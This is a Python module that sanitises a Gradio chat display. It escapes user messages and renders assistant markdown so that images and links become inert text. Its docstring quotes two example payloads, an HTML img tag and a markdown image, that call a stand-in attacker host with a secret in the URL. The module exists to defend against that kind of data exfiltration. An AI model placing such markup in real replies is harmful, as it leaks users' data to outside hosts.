"""What the chat shows: a person's messages as the characters they typed, replies as safe formatted text.

Gradio's Chatbot sanitises HTML (no scripts or event handlers), but it still loads images, video and
styles from any address a message names: a reply that says `<img src="https://attacker/?q=secret">` or
`![](https://attacker/...)` would make the person's browser fetch it. So the Chatbot's own markdown is
off, and the markup it gets is made here:

- a person's message is escaped: it appears exactly as typed;
- a reply's markdown (emphasis, headings, lists, tables, code) is rendered by markdown-it-py with raw
  HTML turned off (any tag in the reply is shown as text), images are shown as "[image: alt text]"
  and links as their text followed by the address, never as an element that loads or opens anything.

The page's Content-Security-Policy (app/security.py) blocks requests to other hosts as a second line.
"""

from __future__ import annotations

import html
import re

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

_PRE = re.compile(r"(<pre>.*?</pre>)", re.DOTALL)


def _image(self, tokens, idx, options, env) -> str:
    alt = self.renderInlineAsText(tokens[idx].children or [], options, env).strip()
    return escapeHtml(f"[image: {alt}]" if alt else "[image]")


def _link_open(self, tokens, idx, options, env) -> str:
    env.setdefault("links", []).append(tokens[idx].attrGet("href") or "")
    return ""


def _link_close(self, tokens, idx, options, env) -> str:
    href = env["links"].pop() if env.get("links") else ""
    text = tokens[idx - 1].content if idx and tokens[idx - 1].type == "text" else ""
    # An autolink (<https://...>) already shows its address as its text.
    return "" if not href or href in (text, f"mailto:{text}") else escapeHtml(f" ({href})")


def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "breaks": True}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("link_close", _link_close)
    return md


_MD = _markdown()


def inert(text: str) -> str:
    """`text` as HTML that displays exactly these characters."""
    return html.escape(text, quote=False)


def formatted(text: str) -> str:
    """A reply's markdown as HTML that can neither run nor load anything."""
    rendered = _MD.render(text, {})
    # Outside code blocks a newline would show as an empty line (the Chatbot keeps white space); a
    # line break the model wrote is already a <br /> (option "breaks").
    parts = _PRE.split(rendered.strip())
    return "".join(p if p.startswith("<pre>") else p.replace("\n", "") for p in parts)


def shown_messages(messages: list[dict]) -> list[dict]:
    """The Chatbot's messages: the person's escaped, the replies formatted."""
    return [{**m, "content": formatted(m["content"]) if m["role"] == "assistant" else inert(m["content"])}
            for m in messages]


# The old name: every message escaped (kept for callers outside the chat tab).
def inert_messages(messages: list[dict]) -> list[dict]:
    return [{**m, "content": inert(m["content"])} for m in messages]
